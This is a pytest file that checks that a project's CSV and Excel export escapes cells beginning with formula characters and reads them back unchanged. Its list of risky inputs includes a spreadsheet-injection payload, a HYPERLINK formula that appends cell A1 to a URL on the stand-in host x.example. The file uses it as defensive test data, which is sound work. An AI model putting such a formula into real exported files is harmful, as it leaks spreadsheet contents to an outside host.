import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tinhdoan.lib.sheet_text import FORMULA_STARTS, csv_text, csv_text_read, xlsx_bytes
from tinhdoan.lib.tabular import read_table, write_csv, write_xlsx

RISKY = [
    '=HYPERLINK("https://x.example/?d="&A1, "Bấm để xem")',
    "@SUM(1)",
    "+1",
    "-2+3",
    "\t=1",
]


@pytest.mark.parametrize("text", [*RISKY, "\r=1"])
def test_csv_text_that_would_run_gets_a_quote_and_reads_back(text):
    assert csv_text(text) == "'" + text
    assert csv_text_read(csv_text(text)) == text


@pytest.mark.parametrize("text", ["Kết nạp 26/3", "'trích dẫn", "a=b", "", "1.234,5"])
def test_other_text_is_written_as_it_is(text):
    assert csv_text(text) == text == csv_text_read(text)


def test_a_quote_already_before_a_formula_gets_one_more():
    assert csv_text("'=x") == "''=x" and csv_text_read("''=x") == "'=x"


@given(st.text())
def test_csv_round_trip_is_exact_and_never_starts_a_formula(text):
    written = csv_text(text)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_text_read(written) == text


def test_table_files_keep_risky_text_as_text_and_numbers_as_numbers():
    rows = [[text, -5] for text in RISKY]
    csv_data = write_csv(["text", "number"], rows)
    assert csv_data.decode().splitlines()[1:3] == [
        '"\'=HYPERLINK(""https://x.example/?d=""&A1, ""Bấm để xem"")",-5',
        "'@SUM(1),-5",
    ]
    sheet = load_workbook(io.BytesIO(write_xlsx(["text", "number"], rows))).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].data_type == "n" and row[1].value == -5
    for name, data in (("a.csv", csv_data), ("a.xlsx", write_xlsx(["text", "number"], rows))):
        table = read_table(name, data, columns=["text", "number"])
        # The readers strip the spaces around a cell, a leading tab included.
        assert [cells for _line, cells in table.rows] == [[t.strip(), "-5"] for t in RISKY]


def test_a_formula_in_any_sheet_of_a_workbook_is_written_as_text():
    workbook = Workbook()
    workbook.active["B3"] = "=1+1"
    workbook.create_sheet("hai")["A1"] = "=HYPERLINK(A1)"
    read = load_workbook(io.BytesIO(xlsx_bytes(workbook)))
    assert read.active["B3"].data_type == "s" and read.active["B3"].value == "=1+1"
    assert read["hai"]["A1"].value == "=HYPERLINK(A1)" and read["hai"]["A1"].data_type == "s"
